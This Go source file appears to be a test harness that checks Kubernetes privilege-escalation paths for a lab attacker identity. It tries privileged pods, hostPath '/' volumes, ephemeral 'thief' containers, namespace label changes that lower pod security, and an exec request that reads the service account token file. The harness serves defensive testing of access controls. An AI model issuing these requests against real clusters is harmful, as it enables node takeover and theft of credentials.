package paths

import (
	"errors"
	"fmt"
	"net/http"

	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
)

func held(w *walk) error { return w.takesCrown(w.mallory) }

func createPods(w *walk) error {
	// A pod runs as an account of its own namespace alone.
	if err := w.denied(post(url("lab", "pods"), plainPod("tool", "boss", ""))); err != nil {
		return err
	}
	if err := w.try(post(url("shop", "pods"), plainPod("tool", "boss", ""))); err != nil {
		return err
	}
	return w.takesCrownByPod("shop", "tool")
}

func createPodsOnNode(w *walk) error {
	if err := w.try(post(url("shop", "pods"), privilegedPod("tool", "web", "n1"))); err != nil {
		return err
	}
	_, err := w.takesNode("n1")
	return err
}

func changeWorkloads(w *walk) error {
	labels := object{"app": "tool"}
	template := plainPod("", "boss", "")
	replicas := object{
		"apiVersion": "apps/v1", "kind": "ReplicaSet", "metadata": object{"name": "tool"},
		"spec": object{
			"replicas": 1, "selector": object{"matchLabels": labels},
			"template": object{"metadata": object{"labels": labels}, "spec": template["spec"]},
		},
	}
	if err := w.try(post("/apis/apps/v1/namespaces/shop/replicasets", replicas)); err != nil {
		return err
	}
	return w.takesCrownByPodOf("tool")
}

// changeTemplate lets a workload run new pods as another account. The template of a Job does not change.
func changeTemplate(w *walk) error {
	template := object{"spec": object{"serviceAccountName": "boss", "serviceAccount": "boss"}}
	job := object{"spec": object{"template": template}}
	if err := w.denied(patch("/apis/batch/v1/namespaces/shop/jobs/once", job)); err != nil {
		return err
	}
	replicas := object{"spec": object{"replicas": 1, "template": template}}
	if err := w.try(patch("/apis/apps/v1/namespaces/shop/replicasets/web", replicas)); err != nil {
		return err
	}
	return w.takesCrownByPodOf("web")
}

// takesCrownByPodOf waits for the pod of a ReplicaSet, and reads the Secret of the administrators with its token.
func (w *walk) takesCrownByPodOf(app string) error {
	name := ""
	err := await("pod of the ReplicaSet", func() (bool, error) {
		list, err := w.admin.must(w, get(url("shop", "pods?labelSelector=app%3D"+app)))
		items, _, _ := unstructured.NestedSlice(list, "items")
		for _, item := range items {
			name = at(item.(object), "metadata", "name")
		}
		return name != "", err
	})
	if err != nil {
		return err
	}
	return w.takesCrownByPod("shop", name)
}

func changePods(w *walk) error {
	change := object{"spec": object{"containers": []any{object{"name": "main", "image": "registry.example.org/thief:1"}}}}
	if err := w.try(request{method: "PATCH", url: url("shop", "pods/web"), mediaType: strategicPatch, body: change}); err != nil {
		return err
	}
	return w.takesCrownByPod("shop", "web")
}

func addContainer(w *walk) error {
	change := object{"spec": object{"ephemeralContainers": []any{object{"name": "thief", "image": "registry.example.org/thief:1"}}}}
	container := url("shop", "pods/web/ephemeralcontainers")
	if err := w.try(request{method: "PATCH", url: container, mediaType: strategicPatch, body: change}); err != nil {
		return err
	}
	return w.takesCrownByPod("shop", "web")
}

// addPrivilegedContainer adds a container that controls the node of the pod.
func addPrivilegedContainer(w *walk) error {
	container := object{"name": "thief", "image": "registry.example.org/thief:1", "securityContext": object{"privileged": true}}
	change := object{"spec": object{"ephemeralContainers": []any{container}}}
	url := url("shop", "pods/web/ephemeralcontainers")
	if err := w.try(request{method: "PATCH", url: url, mediaType: strategicPatch, body: change}); err != nil {
		return err
	}
	_, err := w.takesNode("n1")
	return err
}

// execute runs a command by POST, and by the GET of a WebSocket.
func execute(w *walk) error {
	command := url("shop", "pods/web/exec?container=main&stdout=true&command=cat&command=/var/run/secrets/kubernetes.io/serviceaccount/token")
	stream := request{method: "POST", url: command}.with("Connection", "Upgrade").with("Upgrade", "SPDY/3.1")
	stream = stream.with("X-Stream-Protocol-Version", "v4.channel.k8s.io")
	given, err := w.mallory.send(w, stream)
	if err != nil {
		return err
	}
	if given.status == http.StatusForbidden {
		socket := request{method: "GET", url: command}.with("Connection", "Upgrade").with("Upgrade", "websocket")
		socket = socket.with("Sec-WebSocket-Version", "13").with("Sec-WebSocket-Key", "MDEyMzQ1Njc4OWFiY2RlZg==")
		socket = socket.with("Sec-WebSocket-Protocol", "v4.channel.k8s.io")
		second, err := w.mallory.send(w, socket)
		if err != nil {
			return err
		}
		if second.status != http.StatusForbidden {
			return fmt.Errorf("%s: %d %s", socket, second.status, second.message)
		}
		return &refusal{w.mallory.name, stream, given}
	}
	if given.status != http.StatusSwitchingProtocols {
		return fmt.Errorf("%s: %d %s", stream, given.status, given.message)
	}
	return w.takesCrownByToken(string(given.body))
}

// kubeletAPI requests the kubelet of the node of a pod. The server refuses to connect to loopback, after it has
// authorized the request.
func kubeletAPI(w *walk) error {
	held, err := w.admin.must(w, get(url("vault", "pods/keeper")))
	if err != nil {
		return err
	}
	proxy := get("/api/v1/nodes/" + at(held, "spec", "nodeName") + "/proxy/run/vault/keeper/main")
	given, err := w.mallory.send(w, proxy)
	if err != nil {
		return err
	}
	switch {
	case given.status == http.StatusForbidden:
		return &refusal{w.mallory.name, proxy, given}
	case given.status != http.StatusBadRequest || given.message != "address not allowed":
		return fmt.Errorf("%s: %d %s", proxy, given.status, given.message)
	}
	return w.takesCrownByPod("vault", "keeper")
}

// volumes binds a volume of the folder `/` to the claim that a pod has made for itself.
func volumes(w *walk) error {
	direct := plainPod("direct", "web", "n1")
	direct["spec"].(object)["volumes"] = []any{object{"name": "node", "hostPath": object{"path": "/"}}}
	if err := w.denied(post(url("shop", "pods"), direct)); err != nil {
		return err
	}
	size := object{"storage": "1Gi"}
	modes := []any{"ReadWriteOnce"}
	volume := object{
		"apiVersion": "v1", "kind": "PersistentVolume", "metadata": object{"name": "root"},
		"spec": object{
			"capacity": size, "accessModes": modes, "persistentVolumeReclaimPolicy": "Retain",
			"hostPath": object{"path": "/"}, "claimRef": object{"namespace": "shop", "name": "tool-node"},
		},
	}
	pod := plainPod("tool", "web", "n1")
	pod["spec"].(object)["volumes"] = []any{object{"name": "node", "ephemeral": object{"volumeClaimTemplate": object{
		"spec": object{"accessModes": modes, "resources": object{"requests": size}, "storageClassName": "", "volumeName": "root"},
	}}}}
	if err := w.try(post("/api/v1/persistentvolumes", volume)); err != nil {
		return err
	}
	if err := w.try(post(url("shop", "pods"), pod)); err != nil {
		return err
	}
	err := await("bound claim of the pod", func() (bool, error) {
		given, err := w.admin.send(w, get(url("shop", "persistentvolumeclaims/tool-node")))
		if err != nil || given.status == http.StatusNotFound {
			return false, err
		}
		claim, err := w.admin.must(w, get(url("shop", "persistentvolumeclaims/tool-node")))
		return at(claim, "status", "phase") == "Bound" && at(claim, "spec", "volumeName") == "root", err
	})
	if err != nil {
		return err
	}
	_, err = w.takesNode("n1")
	return err
}

// controlNode runs a pod that controls its node, and uses the credentials of the node.
func controlNode(w *walk) error {
	if err := w.try(post(url("lab", "pods"), privilegedPod("tool", "web", "n1"))); err != nil {
		return err
	}
	kubelet, err := w.takesNode("n1")
	if err != nil {
		return err
	}
	return w.takesCrownFromNode(kubelet)
}

// changeLabels lowers the level of a namespace.
func changeLabels(w *walk) error {
	pod := post(url("shop", "pods"), privilegedPod("tool", "web", "n1"))
	if err := w.denied(pod); err != nil {
		return err
	}
	level := object{"metadata": object{"labels": object{"pod-security.kubernetes.io/enforce": "privileged"}}}
	err := w.try(patch("/api/v1/namespaces/shop", level))
	if refused, is := isRefusal(err); is {
		// No other request changes the labels, either.
		again := object{"apiVersion": "v1", "kind": "Namespace", "metadata": object{"name": "shop"}}
		for _, other := range []request{post("/api/v1/namespaces", again), put("/api/v1/namespaces/shop", again), pod} {
			if err := w.denied(other); err != nil {
				return errors.Join(refused, err)
			}
		}
		return refused
	}
	if err != nil {
		return err
	}
	if err := w.passes(pod); err != nil {
		return err
	}
	_, err = w.takesNode("n1")
	return err
}
